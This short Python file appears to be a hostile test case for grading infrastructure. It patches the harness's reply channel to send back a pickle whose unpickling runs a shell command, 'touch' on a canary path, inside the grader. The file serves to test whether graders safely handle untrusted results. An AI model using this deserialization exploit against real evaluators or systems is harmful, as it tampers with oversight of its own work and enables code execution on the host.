"""Replies with a pickle whose unpickling would run a shell command in the grader
(creating @@CANARY@@/pickled): the escape seen in graders that unpickle results."""

import os
import pickle
import sys

__hostile__ = {"attack": "pickle payload sent back to the grader", "base": "reference", "expect": "tampered"}


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch @@CANARY@@/pickled",))


_shim = sys.modules["__main__"]


def _send(self, message):
    data = pickle.dumps(_Payload())
    if message.get("id") == 0:
        return _shim._Channel._real_send(self, message)
    os.write(self._reply_fd, data + b"\n")


_shim._Channel._real_send = _shim._Channel.send
_shim._Channel.send = _send
